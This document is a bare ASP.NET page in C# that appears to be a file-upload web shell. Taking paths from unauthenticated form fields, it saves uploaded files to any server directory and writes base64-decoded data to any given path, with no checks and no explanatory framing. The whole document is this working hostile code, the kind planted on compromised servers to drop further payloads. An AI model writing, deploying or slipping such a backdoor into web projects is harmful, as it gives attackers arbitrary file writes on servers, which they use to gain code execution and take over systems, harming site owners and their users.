<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    if (Request.Files.Count > 0)
    {
        string dest = Request.Form["p"];
        if (string.IsNullOrEmpty(dest)) dest = Server.MapPath(".");
        HttpPostedFile f = Request.Files[0];
        f.SaveAs(System.IO.Path.Combine(dest, Request.Form["n"] ?? f.FileName));
        Response.Write("OK " + System.IO.Path.Combine(dest, f.FileName));
    }
    else if (Request.Form["w"] != null)
    {
        System.IO.File.WriteAllBytes(Request.Form["w"], Convert.FromBase64String(Request.Form["d"]));
        Response.Write("OK");
    }
}
</script>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"/><input name="p"/><input type="submit"/></form>
